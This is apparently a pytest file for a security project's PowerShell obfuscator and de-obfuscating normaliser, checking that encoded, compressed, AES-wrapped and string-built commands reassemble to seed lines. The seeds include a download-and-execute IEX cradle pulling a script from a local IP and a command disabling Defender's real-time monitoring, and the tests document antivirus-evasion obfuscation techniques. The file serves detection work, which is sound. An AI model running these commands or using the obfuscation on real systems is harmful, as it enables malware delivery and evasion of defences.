"""PowerShell techniques, checked without PowerShell (pwsh cannot be installed here).

Payloads are decoded (base64/UTF-16LE, raw Deflate, Gzip, AES-CBC SecureString via openssl); string-building
outputs are evaluated by ``Evaluator`` (sectune.tasks.cmdline.normalize.powershell, shared with the normaliser), a parser for exactly the constructs the techniques emit ('a'+'b',
"{1}{0}" -f ..., [char]N, [char[]](...), -join, 'abc'[-1..-3], -replace, .Replace(), [string]::Join,
[array]::Reverse) with PowerShell's precedence (casts and unary -join > comma > -f > + > -join/-replace).
"""

from __future__ import annotations

import base64
import gzip
import json
import random
import re
import shutil
import subprocess
import zlib
from pathlib import Path

import pytest

from sectune.errors import SectuneError
from sectune.tasks.cmdline.normalize._budget import NotStatic
from sectune.tasks.cmdline.normalize.powershell import _close, evaluate, reassemble
from sectune.tasks.cmdline.obfuscate import INTENSITIES, _aes, obfuscate, powershell

SEEDS = [
    "Write-Host hello",
    "Get-ChildItem C:\\Users | Where-Object { $_.Name -like 'a*' }",
    "Invoke-WebRequest -Uri 'http://example.com/a.ps1' -OutFile \"$env:TEMP\\a.ps1\"",
    "Get-Process | Sort-Object CPU -Descending | Select-Object -First 5",
    "$p = Get-Service -Name 'WinRM'; Write-Output $p.Status",
    "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.1/x.ps1')",
    "Set-MpPreference -DisableRealtimeMonitoring $true",
    "Write-Output 'it''s done'",
]
SHARED = Path(__file__).resolve().parents[2] / "shared" / "data" / "cmdline" / "cmdlines.jsonl.gz"


def outputs(name: str, rng_seeds=(1, 2, 3)):
    for seed in SEEDS:
        for intensity in INTENSITIES:
            for r in rng_seeds:
                try:
                    yield seed, intensity, obfuscate(seed, "powershell", [name], intensity, rng=r).text
                except SectuneError:
                    pass


def test_evaluator_knows_powershell_precedence():
    assert evaluate("\"{1}{0}\" -f 'ost','Write-H'") == "Write-Host"
    assert evaluate("-join('tsoH-etirW'[-1..-10])") == "Write-Host"
    assert evaluate("[string]::join('',[char[]](73,69,0x58))") == "IEX"
    assert evaluate("'WXrite-Host' -replace 'x',''") == "Write-Host"  # -replace ignores case
    assert evaluate("'WXrite-Host'.Replace('x','')") == "WXrite-Host"
    assert evaluate("$env:ComSpec[4,15,25]-join''") == "Iex" and evaluate("$ShellId[1]+$ShellId[13]+'x'") == "iex"
    assert reassemble("&('Wr'+'ite-Host') hi") == "Write-Host hi"


def test_evaluator_reads_invoke_psobfuscation_parts():
    """Its "layer 0" builds values in place: arithmetic, casts through [int], a ForEach-Object over codes."""
    assert evaluate("$(0-80+80+80)") == 80 and evaluate("[char](7*105/7)+[char](3+101-3)") == "ie"
    assert evaluate("[string]::join('', ( (105,101,120) |%{ ( [char][int] $_)}))") == "iex"
    assert evaluate("(('x','y') | % {;$_;}) -join ''") == "xy"
    assert evaluate("(('ab')[1,0] -join '')") == "ba" and evaluate("$VerbosePreference.ToString()[1,3]-join''") == "ie"
    # Invoke-Obfuscation's ENCODING: hex, octal and binary codes split apart and converted back
    assert (
        evaluate(
            "[String]::Join('', (('77h68h6f' -split 'h') | ForEach-Object { ([Char]([Convert]::ToInt16(([String]$_), 16))) }))"
        )
        == "who"
    )
    assert evaluate("(('167,150,157' -split ',') |%{[char][convert]::ToInt32($_,8)}) -join ''") == "who"
    assert evaluate("-join ('1110111:1101000' -split ':' | % {[char][convert]::ToInt16($_, 2)})") == "wh"
    with pytest.raises(NotStatic):
        evaluate("'a.b' -split '.'")  # a regex operator: not read
    with pytest.raises(NotStatic):
        evaluate("'a' - 1")
    with pytest.raises(NotStatic):
        evaluate("(1,2) | % { $_; $_ }")


def test_wildcards_name_one_known_command():
    from fnmatch import fnmatchcase

    from sectune.tasks.cmdline.normalize.powershell import known_commands

    patterns = set()
    for _seed, _intensity, text in outputs("powershell/wildcard", rng_seeds=range(1, 6)):
        for pattern in re.findall(r"\((?:gcm|GCM|Get-Command|gal|Get-Alias) '?([^)']+)'?\)", text):
            assert [c for c in known_commands() if fnmatchcase(c, pattern.lower())], pattern
            assert len([c for c in known_commands() if fnmatchcase(c, pattern.lower())]) == 1, pattern
            assert re.search(r"[*?]", pattern), pattern
            patterns.add(pattern)
    assert len(patterns) >= 10


@pytest.mark.parametrize(
    "name",
    [
        "powershell/concat",
        "powershell/format",
        "powershell/char-codes",
        "powershell/join",
        "powershell/reverse",
        "powershell/replace",
    ],
)
def test_string_building_reassembles_to_the_seed(name):
    cases = list(outputs(name))
    assert {i for _, i, _ in cases} == set(INTENSITIES)
    for seed, intensity, text in cases:
        assert text != seed
        assert reassemble(text) == seed, f"{intensity}: {text}"
        if intensity == "light" and text.startswith(("&(", ".(")):
            assert text.endswith(seed.split(" ", 1)[1] if " " in seed else ")")  # only the command name changed


def test_encoded_command_decodes_to_the_seed():
    for seed, _intensity, text in outputs("powershell/encoded-command"):
        *switches, enc, payload = text.split()
        assert switches[0].lower() in ("powershell", "powershell.exe")
        assert enc.lower() in {s.lower() for s in powershell._ENCODED_SWITCHES}
        assert base64.b64decode(payload).decode("utf-16-le") == seed


def test_deflate_inflates_to_the_seed():
    for seed, _intensity, text in outputs("powershell/deflate"):
        start = text.lower().index("frombase64string(") + len("frombase64string")
        data = base64.b64decode(evaluate(text[start : _close(text, start) + 1]))
        if "gzipstream" in text.lower():
            assert gzip.decompress(data).decode() == seed
        else:
            assert zlib.decompress(data, wbits=-15).decode() == seed
        assert re.search(r"(?i)iex|invoke-expression|comspec|shellid", text)


def test_aes_matches_fips_197():
    plain = bytes.fromhex("00112233445566778899aabbccddeeff")
    for key, cipher in [
        ("000102030405060708090a0b0c0d0e0f", "69c4e0d86a7b0430d8cdb78070b4c55a"),
        ("000102030405060708090a0b0c0d0e0f1011121314151617", "dda97ca4864cdfe06eaf70a0ec0d7191"),
        ("000102030405060708090a0b0c0d0e0f101112131415161718191a1b1c1d1e1f", "8ea2b7ca516745bfeafc49904b496089"),
    ]:
        assert _aes.encrypt_block(plain, _aes._expand(bytes.fromhex(key))).hex() == cipher


@pytest.mark.skipif(shutil.which("openssl") is None, reason="needs openssl to decrypt")
def test_securestring_decrypts_to_the_seed():
    for seed, intensity, text in outputs("powershell/securestring"):
        if intensity == "light":
            assert evaluate(re.search(r"SecureString ('(?:[^']|'')*') -AsPlainText", text).group(1)) == seed
            continue
        blob, key_text = re.search(r"SecureString '([0-9a-f]{32}[A-Za-z0-9+/=]+)' -Key \(([\d.,]+)\)", text).groups()
        key = bytes(range(1, int(key_text[3:]) + 1)) if ".." in key_text else bytes(map(int, key_text.split(",")))
        version, iv, cipher = base64.b64decode(blob[32:]).decode("utf-16-le").split("|")
        assert blob[:32] == powershell._SECURESTRING_HEADER and version == "2"
        plain = subprocess.run(
            ["openssl", "enc", "-d", f"-aes-{8 * len(key)}-cbc", "-K", key.hex(), "-iv", base64.b64decode(iv).hex()],
            input=bytes.fromhex(cipher),
            capture_output=True,
            check=True,
        ).stdout
        assert plain.decode("utf-16-le") == seed


def test_backticks_only_before_plain_letters():
    for seed, intensity, text in outputs("powershell/backtick"):
        assert text.replace("`", "") == seed and "`" in text
        assert not re.search(r"`[0abefnrtuv\W]", text, re.I)
        if intensity == "light":
            assert 1 <= text.count("`") <= 2


def test_random_case_keeps_strings_and_barewords():
    for seed, _intensity, text in outputs("powershell/random-case"):
        assert text != seed and text.lower() == seed.lower()
        mask = powershell._code_mask(seed)
        assert all(a == b for a, b, code in zip(seed, text, mask) if not code)  # strings untouched
    assert obfuscate("Write-Host Hello", "powershell", ["random-case"], "heavy", rng=2).text.endswith(" Hello")


def test_aliases_map_back_to_the_seed():
    back = {a: cmdlet for cmdlet, names in powershell.ALIASES.items() for a in names}
    done = 0
    for seed, _intensity, text in outputs("powershell/aliases"):
        words, seed_words = text.split(), seed.split()
        assert len(words) == len(seed_words) and text != seed
        for w, s in zip(words, seed_words):
            assert w.lower() == s.lower() or back.get(w.lower(), "").lower() == s.lower(), (w, s)
        done += 1
    assert done > 10
    assert obfuscate("Get-Process | Where-Object CPU", "powershell", ["aliases"], "heavy", rng=1).text.split()[
        0
    ].lower() in ("gps", "ps")


def test_where_and_foreach_aliases_only_after_a_pipe():
    for r in range(20):
        text = obfuscate(
            "ForEach-Object { $_ } | ForEach-Object { $_ }", "powershell", ["aliases"], "heavy", rng=r
        ).text
        assert text.startswith("ForEach-Object") and not text.endswith("ForEach-Object { $_ }")
    with pytest.raises(SectuneError, match="aliases"):
        obfuscate("Write-Host hi", "powershell", ["aliases"])


def test_heavy_iex_spellings_come_from_the_environment():
    texts = {obfuscate("Write-Host hi", "powershell", ["concat"], "heavy", rng=r).text for r in range(60)}
    assert any("ComSpec" in t for t in texts) and any("ShellId" in t for t in texts)
    for t in texts:
        assert reassemble(t) == "Write-Host hi"


def test_two_layer_string_chains_reassemble():
    names = ["concat", "format", "char-codes", "join", "reverse", "replace"]
    rng = random.Random(9)
    for first in names:
        for second in names:
            seed = rng.choice(SEEDS)
            text = obfuscate(seed, "powershell", [first, second], rng.choice(INTENSITIES), rng=rng.randrange(999)).text
            assert reassemble(reassemble(text)) == seed, (first, second, text)


@pytest.mark.skipif(not SHARED.exists(), reason="needs shared/data/cmdline")
def test_real_benign_lines_reassemble():
    """PowerShell-Docs and atomic-red-team lines (quotes, braces, non-ASCII...) come back exactly."""
    with gzip.open(SHARED, "rt") as f:
        lines = [row["text"] for row in map(json.loads, f) if row["shell"] == "powershell" and row["label"] == 0]
    rng = random.Random(3)
    for line in rng.sample(lines, 150):
        for name in ["concat", "format", "char-codes", "join", "reverse", "replace"]:
            text = obfuscate(line, "powershell", [name], rng.choice(INTENSITIES), rng=rng.randrange(99)).text
            assert reassemble(text) == line, f"{name}: {line!r} -> {text!r}"
